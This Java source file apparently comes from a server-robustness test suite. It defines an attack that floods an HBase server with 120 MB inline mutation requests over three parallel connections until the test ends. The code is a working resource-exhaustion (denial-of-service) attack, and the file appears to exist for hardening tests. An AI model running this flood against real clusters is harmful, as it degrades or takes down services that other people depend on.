package org.grampus.compat.suite.hostile;

import java.io.IOException;
import org.apache.hadoop.hbase.shaded.protobuf.generated.ClientProtos.MutateRequest;
import org.apache.hadoop.hbase.shaded.protobuf.generated.ClientProtos.MutationProto;
import org.apache.hbase.thirdparty.com.google.protobuf.UnsafeByteOperations;

/** Mutations of 120 MB inside the message, whose cells the server has to copy. */
final class InlineMutations implements Attack {
  private static final int BYTES = 120_000_000;
  private static final int CONNECTIONS = 3;

  @Override
  public String name() {
    return "inline mutations";
  }

  private byte[] put = {};

  @Override
  public void prepare(Victim victim) {
    put =
        MutateRequest.newBuilder()
            .setRegion(Victim.region(victim.small()))
            .setMutation(
                MutationProto.newBuilder()
                    .setRow(UnsafeByteOperations.unsafeWrap(new byte[] {'x'}))
                    .setMutateType(MutationProto.MutationType.PUT)
                    .addColumnValue(
                        MutationProto.ColumnValue.newBuilder()
                            .setFamily(UnsafeByteOperations.unsafeWrap(new byte[] {'f'}))
                            .addQualifierValue(
                                MutationProto.ColumnValue.QualifierValue.newBuilder()
                                    .setQualifier(UnsafeByteOperations.unsafeWrap(new byte[] {'q'}))
                                    .setValue(UnsafeByteOperations.unsafeWrap(new byte[BYTES])))))
            .build()
            .toByteArray();
  }

  @Override
  public void run(Victim victim) throws Exception {
    Thread[] senders = new Thread[CONNECTIONS];
    for (int i = 0; i < CONNECTIONS; i++) {
      int address = 1 + i;
      senders[i] = new Thread(() -> send(victim, address), "inline-mutations");
      senders[i].start();
    }
    for (Thread sender : senders) {
      sender.join();
    }
  }

  private void send(Victim victim, int address) {
    while (!victim.isOver()) {
      try (Wire wire = victim.connect(address)) {
        wire.send("Mutate", put, new byte[0]);
        wire.skipReply();
        victim.pause();
      } catch (InterruptedException e) {
        return;
      } catch (IOException e) {
        continue; // refused, or the server has ended the connection
      }
    }
  }
}
